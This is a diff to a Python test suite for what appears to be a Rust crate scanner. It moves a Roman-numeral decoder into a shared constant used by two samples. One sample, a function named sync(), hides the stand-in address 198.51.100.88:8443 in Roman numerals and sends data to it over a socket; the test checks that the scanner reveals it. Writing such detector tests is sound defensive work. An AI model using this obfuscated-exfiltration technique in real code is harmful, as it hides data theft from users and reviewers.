@@ -19,6 +19,19 @@ from cratewatch.scan.interpret import (
     hidden_texts,
 )
 
+# a decoder of Roman numerals, which two samples below use
+ROMAN = """
+fn roman(s: &str) -> u32 {
+    let mut total = 0;
+    let mut last = 0;
+    for c in s.chars().rev() {
+        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
+        if v < last { total -= v } else { total += v; last = v; }
+    }
+    total
+}
+"""
+
 
 def _probe(source: str, call: str) -> tuple[Interpreter, str, list[Any]]:
     text = source + f"\nfn __probe() {{ {call}; }}\n"
@@ -111,21 +124,15 @@ pub fn notice(i: usize) -> String {
 
 
 def test_roman_numerals_as_character_codes() -> None:
-    source = """
+    source = (
+        ROMAN
+        + """
 const CODES: [&str; 4] = ["CIV", "CXVI", "CXVI", "CXII"];
-fn roman(s: &str) -> u32 {
-    let mut total = 0;
-    let mut last = 0;
-    for c in s.chars().rev() {
-        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
-        if v < last { total -= v } else { total += v; last = v; }
-    }
-    total
-}
 fn word() -> String {
     CODES.iter().map(|c| char::from_u32(roman(c)).unwrap()).collect()
 }
 """
+    )
     assert run(source, "word()") == "http"
 
 
@@ -291,17 +298,10 @@ def test_the_units_steps_run_out() -> None:
 
 
 def test_a_decoded_address_makes_the_destination_fixed_and_is_reported() -> None:
-    source = """
+    source = (
+        ROMAN
+        + """
 const PARTS: [&str; 4] = ["CXCVIII", "LI", "C", "LXXXVIII"];
-fn roman(s: &str) -> u32 {
-    let mut total = 0;
-    let mut last = 0;
-    for c in s.chars().rev() {
-        let v = match c { 'I' => 1, 'V' => 5, 'X' => 10, 'L' => 50, 'C' => 100, _ => 0 };
-        if v < last { total -= v } else { total += v; last = v; }
-    }
-    total
-}
 fn endpoint() -> String {
     let quad: Vec<String> = PARTS.iter().map(|p| roman(p).to_string()).collect();
     format!("{}:{}", quad.join("."), 8443)
@@ -312,6 +312,7 @@ pub fn sync() {
     let _ = sock.send_to(format!("{:?}", all).as_bytes(), endpoint());
 }
 """
+    )
     found = unit_flows({"src/lib.rs": source.encode()}, "sample")
     assert [r.text for r in found.revealed] == ["198.51.100.88:8443"]
     (flow,) = found.flows
